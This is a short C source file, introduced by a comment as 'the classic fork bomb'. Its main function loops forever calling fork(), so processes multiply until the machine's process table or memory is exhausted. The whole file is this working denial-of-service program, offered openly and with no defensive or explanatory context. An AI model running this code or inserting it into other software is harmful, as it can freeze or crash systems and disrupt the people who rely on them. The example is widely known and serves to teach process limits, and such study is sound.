/* The classic fork bomb: every process forks forever and never exits. */
#include <unistd.h>

int main(void) {
    for (;;) fork();
}
